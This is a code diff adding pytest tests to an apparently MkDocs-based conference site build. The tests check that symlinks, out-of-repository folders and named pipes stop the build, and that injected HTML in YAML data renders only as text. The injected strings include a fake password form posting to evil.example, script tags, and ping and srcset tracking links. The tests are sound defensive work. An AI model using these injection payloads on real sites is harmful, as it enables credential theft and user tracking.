@@ -127,3 +127,85 @@ def test_links_that_open_a_new_tab_carry_noopener(project_copy, tmp_path):
     html = BeautifulSoup((tmp_path / "out/about/index.html").read_text(encoding="utf-8"), "lxml")
     link = html.select_one('a[href="https://www.rcc.int/"]')
     assert link["target"] == "_blank" and link["rel"] == ["noopener"]
+
+
+SECRET = "outside-the-repository-4712"
+OUTSIDE_PAGE = f"---\ntitle: Leak\ndescription: Leak\n---\n\n# Leak\n\n{SECRET}\n"
+
+
+@pytest.mark.parametrize(
+    "link, target",
+    [
+        ("docs/en/leak.md", "page"),  # a page of the site
+        ("docs/assets/javascripts/leak.js", "page"),  # an asset, published as it is
+        ("docs/en/outside", "folder"),  # a folder of pages
+        ("data/programme.yml", "page"),  # a data file
+        ("overrides/strings/en.yml", "page"),  # the interface strings
+        ("docs/en/gone.md", None),  # a link to nothing
+    ],
+)
+def test_a_symbolic_link_in_a_content_folder_stops_the_build_naming_it(project_copy, tmp_path, link, target):
+    only_language(project_copy, "en")
+    outside = tmp_path / "outside"  # beside the project copy, outside it
+    outside.mkdir()
+    (outside / "leak.md").write_text(OUTSIDE_PAGE, encoding="utf-8")
+    path = project_copy / link
+    path.unlink(missing_ok=True)
+    path.symlink_to({"page": outside / "leak.md", "folder": outside, None: outside / "missing.md"}[target])
+    error = build_error(project_copy, tmp_path)
+    assert "Traceback" not in error, error[-2000:]
+    assert f"ERROR   -  {link}: a symbolic link" in error, error[-2000:]
+    for built in (tmp_path / "out").rglob("*") if (tmp_path / "out").exists() else []:
+        assert not built.is_file() or SECRET not in built.read_text(encoding="utf-8", errors="replace"), built
+
+
+def test_a_content_folder_whose_real_path_is_outside_the_repository_stops_the_build(project_copy, tmp_path):
+    from content_folders import content_problem
+
+    outside = tmp_path / "outside-strings"
+    (project_copy / "overrides/strings").rename(outside)
+    (project_copy / "overrides/strings").symlink_to(outside)
+    assert content_problem(project_copy).startswith("overrides/strings: a symbolic link")
+    (project_copy / "overrides/strings").unlink()
+    outside.rename(project_copy / "overrides/strings")
+    (project_copy / "overrides").rename(tmp_path / "overrides-elsewhere")
+    (project_copy / "overrides").symlink_to(tmp_path / "overrides-elsewhere")
+    assert content_problem(project_copy) == "overrides/strings: its real path is outside the repository; content must be files of the repository."
+
+
+def test_a_pipe_in_a_content_folder_stops_the_build_naming_it(project_copy):
+    import os
+
+    from content_folders import content_problem
+
+    assert content_problem(project_copy) is None
+    os.mkfifo(project_copy / "data/notes.yml")
+    assert content_problem(project_copy).startswith("data/notes.yml: not a regular file")
+
+
+# Data texts are Markdown: in a code span, markup passes the data check as text. The
+# home page (overrides/home.html) must print it as text too, never as markup.
+HOME_PAYLOADS = {
+    "debate summary": ("      en: >-\n        Online radicalisation", '      en: >-\n        `<script src="assets/javascripts/x.js"></script><form action="https://evil.example/"><input type="password" name="p"></form>` Online radicalisation'),
+    "co-chair name": ("      en: Regional Cooperation Council\n", '      en: "Regional Cooperation Council `<a class=md-button href=http://evil.example/ ping=https://evil.example/p>Log in</a>`"\n'),
+    "partner name": ("      en: France\n", '      en: "France `<img src=x.png srcset=https://evil.example/i.png alt=x><meta name=referrer content=unsafe-url>`"\n'),
+    "city": ("    en: Paris\n", '    en: "Paris `<script src=assets/javascripts/x.js></script>`"\n'),
+}
+
+
+def test_data_texts_on_the_home_page_are_text_never_markup(project_copy, tmp_path):
+    only_language(project_copy, "en")
+    for old, new in HOME_PAYLOADS.values():
+        path = project_copy / "data" / ("programme.yml" if "radicalisation" in old or "Paris" in old else "partners.yml")
+        text = path.read_text(encoding="utf-8")
+        assert text.count(old) >= 1, old
+        path.write_text(text.replace(old, new, 1), encoding="utf-8")
+    (project_copy / "docs/assets/javascripts/x.js").write_text("document.title = 'x';\n", encoding="utf-8")
+    result = build(project_copy / "mkdocs.yml", tmp_path / "out")
+    assert result.returncode == 0, result.stderr[-2000:]
+    home = BeautifulSoup((tmp_path / "out/index.html").read_text(encoding="utf-8"), "lxml")
+    main = home.select_one(".home")
+    assert not main.select("script, form, input, meta, img[srcset], a[ping], a[href^='http:']"), main.select("script, form, input, meta, img, a[ping]")
+    shown = main.get_text()
+    for fragment in ('<script src="assets/javascripts/x.js"></script>', '<input type="password" name="p">', "ping=https://evil.example/p>Log in</a>", "<meta name=referrer content=unsafe-url>", "Paris `<script src=assets/javascripts/x.js></script>`"):
+        assert fragment in shown, fragment
